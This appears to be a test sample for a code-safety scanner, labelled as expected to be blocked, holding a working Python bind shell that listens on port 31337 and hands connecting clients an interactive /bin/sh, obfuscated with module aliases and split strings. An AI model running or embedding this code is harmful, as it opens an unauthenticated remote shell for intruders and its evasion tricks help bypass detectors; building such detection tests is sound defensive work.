# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/bind_shell.py technique: alias+concat
import os as _m0
import socket as _m1
import subprocess as _m2
server = _m1.socket(_m1.AF_INET, _m1.SOCK_STREAM)
server.setsockopt(_m1.SOL_SOCKET, _m1.SO_REUSEADDR, 1)
server.bind(('0.' + '0.' + '0.' + '0', 31337))
server.listen(1)
conn, addr = server.accept()
_m0.dup2(conn.fileno(), 0)
_m0.dup2(conn.fileno(), 1)
_m0.dup2(conn.fileno(), 2)
_m2.call(['/b' + 'in' + '/s' + 'h', '-' + 'i'])
